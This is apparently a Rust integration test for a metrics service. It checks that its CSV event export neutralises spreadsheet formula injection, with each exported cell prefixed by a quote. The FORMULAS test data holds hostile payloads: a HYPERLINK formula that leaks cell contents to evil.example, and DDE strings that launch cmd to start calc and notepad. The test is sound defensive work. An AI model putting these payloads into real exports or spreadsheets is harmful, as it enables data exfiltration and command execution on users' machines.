//! CSV injection: text an API key's holder chose (keys ship inside client
//! apps) must not reach a spreadsheet as a formula through ExportEvents.

use futures::StreamExt as _;
use metrix_core::authn::{Role, Scope};
use metrix_core::both_backends;
use metrix_proto::metrics::v1::*;

use crate::helpers::*;

/// Cells a spreadsheet would run: every first character of OWASP's list
/// (`=`, `+`, `-`, `@`, tab, carriage return).
const FORMULAS: [&str; 8] = [
    "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open the report\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
];

/// What a spreadsheet would read as a formula.
fn starts_a_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

fn properties(payload: &str) -> prost_types::Struct {
    let text = |value: &str| prost_types::Value {
        kind: Some(prost_types::value::Kind::StringValue(value.to_owned())),
    };
    prost_types::Struct {
        fields: [
            ("note".to_owned(), text(payload)),
            (payload.to_owned(), text("planted as a key")),
        ]
        .into_iter()
        .collect(),
    }
}

async fn exported_csv_cells_never_start_a_formula(backend: Backend) {
    let app = spawn_app(backend).await;
    let organization = new_organization();
    let key = app.issuer.api_key(&organization, &[Scope::EventsWrite]);
    let mut events: Vec<Event> = FORMULAS
        .iter()
        .enumerate()
        .map(|(index, payload)| Event {
            event_id: format!("formula-{index}"),
            app_id: "web".to_owned(),
            user_id: (*payload).to_owned(),
            event_type: "click".to_owned(),
            event_name: (*payload).to_owned(),
            session_id: (*payload).to_owned(),
            properties: Some(properties(payload)),
            ..Default::default()
        })
        .collect();
    // An event type may start with a minus too.
    events.push(Event {
        event_id: "formula-type".to_owned(),
        app_id: "web".to_owned(),
        user_id: "u-1".to_owned(),
        event_type: "-1-1".to_owned(),
        ..Default::default()
    });
    let tracked = app
        .client()
        .track_events(with_api_key(
            TrackEventsRequest {
                events,
                asynchronous: false,
            },
            &key,
        ))
        .await
        .expect("the batch is answered")
        .into_inner();
    assert!(
        tracked
            .results
            .iter()
            .all(|result| result.status == TrackEventStatus::Accepted as i32),
        "every hostile event is stored: {:?}",
        tracked.results
    );

    let reader = app.user(&organization, Role::CompanyUser);
    let mut stream = app
        .client()
        .export_events(authorized(
            ExportEventsRequest {
                filter: None,
                format: ExportFormat::Csv as i32,
            },
            &reader,
        ))
        .await
        .expect("export")
        .into_inner();
    let mut csv = String::new();
    while let Some(chunk) = stream.next().await {
        csv.push_str(&chunk.expect("chunk").data);
    }

    let mut file = csv::Reader::from_reader(csv.as_bytes());
    let header: Vec<String> = file.headers().expect("a header").iter().map(str::to_owned).collect();
    let column = |name: &str| header.iter().position(|column| column == name).expect("a column");
    let (user_id, event_type, event_name, session_id) = (
        column("user_id"),
        column("event_type"),
        column("event_name"),
        column("session_id"),
    );
    let records: Vec<csv::StringRecord> = file.records().map(|record| record.expect("valid csv")).collect();
    assert_eq!(records.len(), FORMULAS.len() + 1);
    for record in &records {
        for (name, cell) in header.iter().zip(record.iter()) {
            assert!(!starts_a_formula(cell), "{name} starts a formula: {cell:?}");
        }
    }
    // The values survive, behind one quote (ingestion trims the whitespace
    // around text fields, so the tab and CR payloads arrive as `=1+1`).
    let mut names: Vec<&str> = records.iter().map(|record| &record[event_name]).collect();
    names.retain(|name| !name.is_empty());
    let mut expected: Vec<String> = FORMULAS.iter().map(|payload| format!("'{}", payload.trim())).collect();
    names.sort_unstable();
    expected.sort_unstable();
    assert_eq!(names, expected);
    for record in &records {
        if !record[event_name].is_empty() {
            assert_eq!(record[user_id], record[event_name]);
            assert_eq!(record[session_id], record[event_name]);
        }
    }
    assert!(records.iter().any(|record| &record[event_type] == "'-1-1"));
    // A property value or key keeps its text inside the JSON cell.
    assert!(csv.contains("=HYPERLINK("), "the JSON cell still holds the text");
}

both_backends!(exported_csv_cells_never_start_a_formula);
